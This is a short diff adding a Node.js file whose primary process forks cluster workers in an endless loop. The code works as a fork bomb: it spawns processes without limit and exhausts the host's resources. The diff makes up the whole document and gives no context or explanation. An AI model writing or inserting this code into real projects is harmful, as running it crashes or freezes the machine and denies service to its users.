@@ -1,0 +1,3 @@
+import cluster from 'node:cluster';
+
+if (cluster.isPrimary) for (;;) cluster.fork();
